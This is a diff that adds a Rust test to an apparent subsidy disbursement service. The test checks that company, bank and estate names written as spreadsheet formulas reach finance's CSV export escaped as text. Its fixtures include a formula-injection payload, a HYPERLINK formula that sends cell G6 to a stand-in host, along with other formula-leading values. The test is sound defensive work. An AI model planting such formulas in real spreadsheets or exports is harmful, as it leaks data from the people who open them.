@@ -606,3 +606,53 @@ async fn no_batch_past_the_payout_deadline_or_beyond_the_budget() {
     assert!(r["error"]["message"].as_str().unwrap().contains("3000000.00"), "{r}");
     assert_eq!(dapeng.get("/api/v1/disbursement/eligible").await.ok()["count"], 1);
 }
+
+/// A company, its bank and its estates named as formulas reach finance's
+/// CSV as text: every such cell begins with `'`, and the amounts stay
+/// numbers that sum to the control total.
+#[tokio::test]
+async fn names_typed_as_formulas_reach_the_treasury_csv_as_text() {
+    let app = TestApp::spawn().await;
+    let company = app.with_token(&app.token(json!({"sub": "formula-company", "name": "经办人"})));
+    let code = subsidy_core::credit_code::CreditCode::with_check_character("91440300MA5D00029").unwrap();
+    let name = r#"=HYPERLINK("http://x/?"&G6,"详情")"#;
+    company
+        .put(
+            "/api/v1/company",
+            json!({"creditCode": code.as_str(), "name": name, "legalRepresentative": "法人", "contactName": "经办人",
+                "contactPhone": "13700137000",
+                "bankAccount": {"bankName": "@开户银行", "accountName": "-户名", "accountNumber": "6217000012345678"}}),
+        )
+        .await
+        .ok();
+    let estates: Vec<String> = ["=1+1", "+南园一号", "-南园二号", "@南园三号"].map(String::from).to_vec();
+    approved_projects(&app, &company, &estates).await;
+    let (id, _) = released_batch(&app).await;
+    app.drain().await;
+    let finance = app.login("finance-futian").await;
+    let link = finance.get(&format!("/api/v1/batches/{id}/file?format=csv")).await.ok();
+    let csv = app.client.get(link["download"]["url"].as_str().unwrap()).send().await.unwrap().bytes().await.unwrap();
+    let rows: Vec<Vec<String>> = csv::ReaderBuilder::new()
+        .has_headers(false)
+        .flexible(true)
+        .from_reader(&csv[3..])
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect();
+    let ours: Vec<&Vec<String>> = rows[5..].iter().filter(|r| r[3] == code.as_str()).collect();
+    assert_eq!(ours.len(), 4, "{rows:?}");
+    for r in &ours {
+        assert_eq!(r[2], format!("'{name}"));
+        assert_eq!((r[4].as_str(), r[5].as_str()), ("'@开户银行", "'-户名"));
+        assert!(estates.iter().any(|e| r[9] == format!("'{e}")), "{r:?}");
+        assert!(!r[7].starts_with('\''), "the amount stays a number: {r:?}");
+    }
+    // No cell of the file begins a formula, and the totals still add up.
+    for r in &rows {
+        for cell in r {
+            assert!(!cell.starts_with(subsidy_core::sheet::FORMULA_STARTS), "{cell:?} in {r:?}");
+        }
+    }
+    let cents = |s: &str| s.replace('.', "").parse::<i64>().unwrap();
+    assert_eq!(rows[5..].iter().map(|r| cents(&r[7])).sum::<i64>(), cents(&rows[2][1]));
+}
